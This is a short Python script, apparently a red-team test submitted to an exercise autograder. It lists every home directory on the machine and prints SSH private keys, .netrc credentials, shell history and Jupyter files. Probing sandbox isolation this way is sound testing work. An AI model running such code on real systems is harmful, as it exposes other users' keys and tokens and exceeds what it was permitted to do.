"""Looks for the home folder of the one who grades, and for keys and tokens in it.

exercise: 01-images-as-data/adjust_brightness
points: 0
must: redteam: looked
"""
import os
import pathlib

homes = {os.path.expanduser("~"), "/root", "__HOME__", os.environ.get("HOME", "/")}
try:
    import pwd

    homes |= {entry.pw_dir for entry in pwd.getpwall()}
except (OSError, KeyError) as error:
    print(error)
for home in sorted(homes):
    for name in (".", ".netrc", ".ssh", ".ssh/id_rsa", ".bash_history", ".gitconfig", ".jupyter", ".local/share/jupyter"):
        path = pathlib.Path(home, name)
        try:
            print(path, os.listdir(path) if path.is_dir() else path.read_text())
        except OSError as error:
            print(path, error.strerror)
print("redteam: looked")
